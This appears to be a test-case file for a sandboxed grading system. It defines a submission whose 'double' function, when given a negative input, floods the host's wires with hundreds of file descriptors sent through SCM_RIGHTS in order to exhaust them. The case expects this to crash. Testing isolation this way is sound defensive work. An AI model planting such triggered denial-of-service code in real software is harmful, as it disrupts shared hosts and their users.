from case import Case

from cases.own._wires import WIRES

CASE = Case(
    "E6",
    tries="sends thousands of open descriptors along the wire, to exhaust those of the host",
    defence="strict frames",
    cells={
        "double": WIRES
        + r"""
import array

def flood():
    for wire in wires():
        held = array.array("i", [os.open("/dev/null", os.O_RDONLY) for _ in range(200)])
        wire.setblocking(False)
        for _ in range(50):
            try:
                wire.sendmsg([b"A"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, held)])
            except OSError:
                break

def double(x):
    if x < 0:
        flood()
    return 2 * x
""",
    },
    due=9,
    outcomes=("crashed",),
    not_nbgrader="it has no wire",
)
